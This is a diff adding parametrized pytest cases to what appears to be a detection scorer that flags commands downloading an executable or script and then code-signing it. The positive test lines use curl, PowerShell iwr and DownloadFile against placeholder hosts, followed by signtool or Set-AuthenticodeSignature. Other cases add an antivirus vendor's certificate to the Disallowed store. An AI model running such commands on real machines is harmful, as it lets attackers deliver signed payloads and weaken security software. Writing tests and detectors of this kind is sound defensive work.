@@ -33,6 +33,24 @@ def test_files_that_lose_their_quarantine(text: str, found: list[str], scorer: S
 @pytest.mark.parametrize(
     ("line", "found"),
     [
+        ("curl -o C:\\t\\a.exe http://203.0.113.5/a.exe & signtool sign /a C:\\t\\a.exe", True),
+        ("powershell iwr http://203.0.113.5/a.ps1 -OutFile a.ps1; Set-AuthenticodeSignature a.ps1 $c", True),
+        ("powershell $w.DownloadFile('http://x.example/a.exe','a.exe'); signtool sign /a a.exe", True),
+        # another file, no other host, nothing that is signed
+        ("curl -o C:\\t\\nuget.exe https://x.example/nuget.exe & signtool sign /a C:\\t\\a.exe", False),
+        ("copy b.exe a.exe & signtool sign /a a.exe", False),
+        ("powershell Write-Host a.ps1 http://x.example; Set-AuthenticodeSignature a.ps1 $c", False),
+        ("curl -o a.exe http://x.example/a.exe & signtool verify /pa a.exe", False),
+    ],
+)
+def test_a_file_is_fetched_and_signed(line: str, found: bool, scorer: Scorer) -> None:
+    record = {"EventCode": "1", "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": f"cmd /c {line}"}
+    assert ("fetched_and_signed" in scorer.assess(record)["codesign_indicators"]) is found
+
+
+@pytest.mark.parametrize(
+    ("line", "found"),
+    [
         ("certutil -addstore Disallowed kaspersky_2025.cer", True),
         ("certutil -addstore Disallowed old-partner.cer", False),
         ("certutil -addstore Root kaspersky_2025.cer", False),
